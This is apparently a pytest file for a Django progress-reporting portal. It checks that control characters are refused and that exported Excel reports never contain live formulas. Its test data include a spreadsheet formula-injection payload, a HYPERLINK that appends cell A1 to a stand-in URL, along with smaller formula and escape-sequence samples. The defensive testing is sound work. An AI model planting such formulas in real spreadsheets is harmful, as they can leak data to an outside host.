"""Hostile text typed by reporters, end to end: through the update form and the API, past
the office's review page, into every document the portal builds.

What a reporter may type is kept as data (formula-like text, emoji, 20,000 characters,
Word line breaks); what no document can hold (ESC, NUL) is refused with a message at the
door and the typed text is shown back. Then the office reviews on its pages, every report
kind is built, and no workbook cell holds a formula. (The review page's bounded comparison
of long texts is tested in test_review_pages.py.)
"""

import datetime
import json
import re
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pilot.testing.factories import stamp
from reports.models import ReportKind, RunState
from reports.services import runs as run_services
from tasks.models import ProgressUpdate, UpdateState

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
LONG = "长" * 19_990 + "=1+2@SUM"
ESC_MESSAGE = "内容含有不可见的控制字符（U+001B），请删除后重新提交。"
NUL_MESSAGE = "内容含有不可见的控制字符（U+0000），请删除后重新提交。"


def _form(client, task, period, action="submit", **fields):
    data = {
        "status": "on_track",
        "percent": "40",
        "work_done": "完成调研。",
        "next_steps": "下月上线。",
        "problems": "",
        "version": "0",
        "action": action,
        **fields,
    }
    return client.post(reverse("update-form", args=[task.pk, period.pk]), data)


def _api(client, method, url, body):
    return getattr(client, method)(url, json.dumps(body), content_type="application/json")


@pytest.fixture
def filed(plan, personas, clients, clock):
    """March 2021: the lead files through the form, the supporting unit through the API."""
    march = plan.periods[(2021, 3)]
    t1, t2 = plan.tasks[:2]
    refused = _form(clients.lead, t1, march, work_done="完成\x1b[31m调研")
    assert refused.status_code == 200
    assert refused.context["form"].errors["work_done"] == [ESC_MESSAGE]
    assert "完成\x1b[31m调研" in refused.content.decode()  # shown back, not lost
    assert not ProgressUpdate.objects.filter(task=t1, period=march).exists()

    accepted = _form(
        clients.lead,
        t1,
        march,
        work_done=FORMULA,
        next_steps="+1 表情😀🇨🇳",
        problems="第一行\x0b第二行",
        needs_coordination="on",
    )
    assert accepted.status_code == 302
    lead_update = ProgressUpdate.objects.get(task=t1, period=march, department=plan.commerce)
    assert lead_update.problems == "第一行\n第二行"
    assert lead_update.state == UpdateState.SUBMITTED

    body = {"task": t2.pk, "period": march.pk, "status": "on_track", "percent": 20}
    nul = _api(clients.support, "post", "/api/v1/updates/", body | {"work_done": "空\x00字"})
    assert nul.status_code == 400
    assert nul.json()["work_done"] == [NUL_MESSAGE]
    created = _api(clients.support, "post", "/api/v1/updates/", body | {"work_done": LONG})
    assert created.status_code == 201, created.content
    update = created.json()
    patched = _api(
        clients.support,
        "patch",
        f"/api/v1/updates/{update['id']}/",
        {"version": update["version"], "next_steps": "@SUM(A1)", "problems": "-1+2"},
    )
    assert patched.status_code == 200, patched.content
    submitted = _api(
        clients.support,
        "post",
        f"/api/v1/updates/{update['id']}/submit/",
        {"version": patched.json()["version"]},
    )
    assert submitted.status_code == 200, submitted.content
    return march, lead_update, ProgressUpdate.objects.get(pk=update["id"])


def test_hostile_text_is_refused_or_kept_as_typed(filed):
    _, lead_update, support_update = filed
    assert lead_update.work_done == FORMULA
    assert lead_update.next_steps == "+1 表情😀🇨🇳"
    assert support_update.work_done == LONG
    assert support_update.next_steps == "@SUM(A1)"


def test_every_report_is_built_and_no_cell_holds_a_formula(filed, plan, personas, clients, clock):
    march, lead_update, _ = filed
    accepted = clients.office.post(reverse("review-accept", args=[lead_update.pk]))
    assert accepted.status_code == 302
    clock.move_to(stamp(2021, 3, 31))  # after March's due date: final reports
    office = personas.office
    files = {}
    for kind, period, extra in (
        (ReportKind.MONTHLY, march, {}),
        (ReportKind.SUMMARY, None, {"as_of": datetime.date(2021, 3, 31)}),
        (ReportKind.LATE_LIST, march, {}),
        (ReportKind.URGING, march, {"department": plan.finance}),
    ):
        run = run_services.request_report(
            kind=kind, programme=plan.programme, period=period, actor=office, **extra
        )
        run = run_services.compile_report(run_id=run.pk)
        assert run.state == RunState.DONE, run.error
        files |= {item.name: item.file.open("rb").read() for item in run.files.all()}
    workbooks = {name: content for name, content in files.items() if name.endswith(".xlsx")}
    assert len(workbooks) == 3
    for name, content in workbooks.items():
        for sheet in load_workbook(BytesIO(content)):
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row), name
        with zipfile.ZipFile(BytesIO(content)) as archive:
            for member in archive.namelist():
                if member.startswith("xl/worksheets/"):
                    assert not re.search(rb"<f[ >]", archive.read(member)), (name, member)
    monthly = next(content for name, content in workbooks.items() if "月报" in name)
    values = [
        cell.value
        for sheet in load_workbook(BytesIO(monthly))
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert any(isinstance(value, str) and FORMULA in value for value in values)
